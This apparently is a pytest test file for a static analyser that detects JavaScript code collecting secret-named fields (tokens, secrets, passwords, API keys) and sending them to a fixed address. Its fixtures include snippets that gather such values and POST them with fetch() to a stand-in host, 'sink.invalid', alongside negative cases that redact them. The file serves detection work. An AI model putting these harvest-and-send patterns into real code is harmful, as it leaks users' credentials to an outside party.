"""What is picked out since its name is one of secrets."""

import pytest

from pratique.analysis.languages.javascript.picked import names_secrets
from tests.analysis.languages.javascript.reading import facts

SENDS = "fetch('https://sink.invalid/p', {method: 'POST', body: JSON.stringify(found)})"


def sent(source: str) -> list[str | None]:
    return [use.argument for use in facts(source).uses if use.api == "picked-secrets-sent"]


@pytest.mark.parametrize(
    "source",
    [
        "exports.f = o => { const found = [];\nfor (const [k, v] of Object.entries(o)) if (/token|secret/i.test(k)) found.push(v);\n%s }",
        "const S = /token|secret/i;\nexports.f = o => { const found = [];\nfor (const k in o) { if (S.test(k)) { found.push([k, o[k]]); } }\n%s }",
        "exports.f = o => { const found = Object.entries(o).filter(([k]) => /password|apiKey/.test(k));\n%s }",
        "exports.f = o => { const found = new URLSearchParams();\nfor (const k in o) if (/token|secret/.test(k)) found.append(k, o[k]);\n%s }",
        "exports.f = o => { const found = {};\nfor (const k in o) if (/token|secret/.test(k)) found[k] = o[k];\n%s }",
        "exports.f = o => { const found = Object.keys(o).filter(k => k.toLowerCase().match(/token|secret/)).map(k => o[k]);\n%s }",
        "exports.f = o => { const found = Object.entries(o).filter(([k]) => ['token', 'secret'].some(w => k.includes(w)));\n%s }",
        "const NAMES = ['token', 'secret'];\nexports.f = o => { const found = [];\nfor (const k in o) if (NAMES.includes(k)) found.push(o[k]);\n%s }",
    ],
    ids=[
        "pushed",
        "by a pattern with a name",
        "filtered",
        "into a query",
        "by its key",
        "matched",
        "listed",
        "in a list with a name",
    ],
)
def test_it_is_told_when_it_is_sent_to_a_constant_address(source: str) -> None:
    assert ["https://sink.invalid/p"] == sent(source % SENDS)


@pytest.mark.parametrize(
    "source",
    [
        "exports.f = o => { const found = [];\nfor (const k in o) if (!/token|secret/.test(k)) found.push(o[k]);\n%s }",
        "exports.f = o => { const found = {};\nfor (const k in o) if (/token|secret/.test(k)) found[k] = '***';\n%s }",
        "exports.f = o => { const found = [];\nfor (const k in o) if (/token|secret/.test(k)) delete o[k]; else found.push(o[k]);\n%s }",
        "exports.f = o => { const found = Object.keys(o).filter(k => !/token|secret/.test(k));\n%s }",
        "exports.f = o => { const found = [];\nfor (const k in o) if (/token/.test(k)) found.push(o[k]);\n%s }",
        "exports.f = (o, url) => { const found = [];\nfor (const k in o) if (/token|secret/.test(k)) found.push(o[k]);\nfetch(url, {body: found}) }",
        "exports.f = o => { const headers = {};\nfor (const k in o) if (['authorization', 'cookie'].includes(k)) headers[k] = o[k];\nfetch('https://sink.invalid/p', {headers}) }",
        "exports.f = o => { const found = Object.keys(o).filter(k => !['token', 'secret'].includes(k));\n%s }",
        "exports.f = o => { const found = Object.keys(o).filter(k => !k.match(/token|secret/));\n%s }",
    ],
    ids=[
        "all others",
        "hidden",
        "left out",
        "others filtered",
        "one kind",
        "an address of its user",
        "headers handed on",
        "others of a list",
        "not matched",
    ],
)
def test_what_hides_secrets_is_not(source: str) -> None:
    assert [] == sent(source % SENDS if "%s" in source else source)


def test_a_pattern_looks_for_two_kinds_at_least() -> None:
    assert names_secrets(b"/API_?KEY|token/i")
    assert not names_secrets(b"/token|TOKEN/")
    assert not names_secrets(b"/monkey|turkey/")
